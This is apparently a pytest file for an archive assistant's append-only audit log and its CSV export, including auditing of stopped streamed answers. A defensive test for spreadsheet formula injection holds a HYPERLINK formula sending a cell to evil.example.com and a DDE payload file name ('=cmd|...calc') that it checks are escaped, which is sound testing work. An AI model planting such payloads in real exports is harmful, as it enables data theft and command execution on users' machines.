"""The audit log (利用登记): every question recorded with who, when and what was shown;
append-only; exported as CSV for administrators."""

import asyncio
import csv
import json
import sqlite3
import time
from pathlib import Path

import pytest
from helpers import READER, STAFF
from llm_server import FakeLLMServer, Reply
from typer.testing import CliRunner

from assistant.cli import app
from assistant.models import Role
from assistant.service import Assistant
from bench.bench_load import SimUser
from bench.gradio_browser import ASK_FORM, Browser, async_client
from tests.app_server import App, running_app
from tests.ui_fixtures import REPORT_NAME

CSV = "档号,题名,年度,开放状态\n38-1-0001,关于招工的请示,1978,开放\n38-1-0002,关于转正定级的批复,1979,控制使用\n"


@pytest.fixture
def catalogue(assistant: Assistant, tmp_path: Path) -> Assistant:
    path = tmp_path / "目录.csv"
    path.write_bytes(CSV.encode("gbk"))
    assert assistant.ingest([path]).ok
    return assistant


def test_questions_are_logged_and_exported(catalogue: Assistant, tmp_path: Path) -> None:
    catalogue.ask("38-1-0001是什么", READER)
    catalogue.ask("38-1-0002是什么", READER)
    catalogue.ask("38-1-0002是什么", STAFF)
    out = tmp_path / "利用登记.csv"
    result = CliRunner().invoke(app, ["--index-dir", str(catalogue.settings.index_dir), "audit", "export", str(out)])
    assert result.exit_code == 0 and "3 条" in result.output
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    header, first, refused, staff = rows
    assert header[:3] == ["序号", "时间(UTC)", "用户"]
    assert first[2:4] == ["reader", "reader"] and "档号 38-1-0001" in first[-1] and first[6] == "answered"
    assert refused[6] == "no_evidence" and refused[-1] == ""  # nothing was shown to the reader
    assert staff[2] == "staff" and "38-1-0002" in staff[-1]


def test_the_log_is_append_only(catalogue: Assistant) -> None:
    catalogue.ask("38-1-0001是什么", READER)
    conn = catalogue.index.conn
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        conn.execute("UPDATE audit_log SET user = 'someone else'")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        conn.execute("DELETE FROM audit_log")
    assert conn.execute("SELECT count(*) FROM audit_log").fetchone()[0] == 1


# ---- spreadsheet formulas (finding 11) ---------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example.com/?q="&A1,"点我")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def test_cells_that_excel_would_run_are_written_as_text(assistant: Assistant, tmp_path: Path) -> None:
    folder = tmp_path / "corpus"
    folder.mkdir()
    source = folder / "=cmd|'-C calc'!A0.md"  # a file name is a cell too (the shown column)
    source.write_text("# 说明\n\n2021年全馆开展消防演练4次，参加人员52人次。\n", encoding="utf-8")
    assert assistant.ingest([folder]).ok
    for question in FORMULAS:
        assistant.ask(question, READER)
    shown = assistant.ask("2021年消防演练开展了几次", STAFF)
    assert shown.citations and shown.citations[0].source.startswith("=cmd")
    out = tmp_path / "利用登记.csv"
    result = CliRunner().invoke(app, ["--index-dir", str(assistant.settings.index_dir), "audit", "export", str(out)])
    assert result.exit_code == 0, result.output

    rows = list(csv.reader(out.open(encoding="utf-8-sig", newline="")))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [row[5] for row in rows[: len(FORMULAS)]] == ["'" + q for q in FORMULAS]  # kept, shown as text
    assert rows[-1][-1].startswith("'=cmd|'-C calc'!A0.md")


# ---- a stream the user stops (finding 9) -------------------------------------------------------

STOPPER = SimUser("馆员丙", "staff-pass-3", "staff")


async def _ask_and_stop(app: App, question: str) -> str:
    """Ask in the page, wait for the first streamed words, then press stop (Gradio's cancel)."""
    async with async_client(app.url) as http:
        browser = Browser(http)
        await browser.login(STOPPER.name, STOPPER.password)
        assert (await browser.open_page()).ok and browser.events is not None
        event = browser.events.ask
        body = {
            "data": [question, [], "起草", *ASK_FORM[1:]],  # drafts stream; a question's answer is held back
            "event_data": None,
            "fn_index": event.fn_index,
            "trigger_id": event.trigger_id,
            "session_hash": browser.session_hash,
        }
        try:
            event_id = (await http.post("/gradio_api/queue/join", json=body)).json()["event_id"]
            shown = ""
            params = {"session_hash": browser.session_hash}
            async with http.stream("GET", "/gradio_api/queue/data", params=params) as stream:
                async for line in stream.aiter_lines():
                    message = json.loads(line[5:]) if line.startswith("data:") else {}
                    if message.get("msg") == "process_generating" and message.get("event_id") == event_id:
                        shown = json.dumps(message["output"]["data"], ensure_ascii=False)
                        break
            cancel = {"session_hash": browser.session_hash, "fn_index": event.fn_index, "event_id": event_id}
            assert (await http.post("/gradio_api/cancel", json=cancel)).status_code == 200
            return shown
        finally:
            await browser.close_page()


def test_an_answer_stopped_while_it_is_written_is_still_audited(tmp_path: Path, fake_llm: FakeLLMServer) -> None:
    words = ["据报告，", "2022年", "完成", "数字化", "扫描", "8600页", "[1]", "。"]
    fake_llm.default_reply = Reply(chunks=words, chunk_delay=0.5)
    overrides = {"llm_base_url": fake_llm.base_url, "llm_model": fake_llm.model, "llm_timeout": 30.0}
    question = "起草2023年查阅利用工作部分"
    with running_app(tmp_path, [(STOPPER.name, STOPPER.password, Role.STAFF)], **overrides) as running:
        shown = asyncio.run(_ask_and_stop(running, question))
        assert "据报告" in shown  # the first words did reach the page
        conn = sqlite3.connect(running.index_dir / "assistant.sqlite3")
        deadline = time.monotonic() + 10
        while not (rows := conn.execute("SELECT user, question, status, shown FROM audit_log").fetchall()):
            assert time.monotonic() < deadline, "the stopped answer was never recorded"
            time.sleep(0.2)
    ((user, asked, status, places),) = rows
    assert (user, asked, status) == (STOPPER.name, question, "interrupted")
    assert REPORT_NAME in places  # the passages the model was writing from count as shown
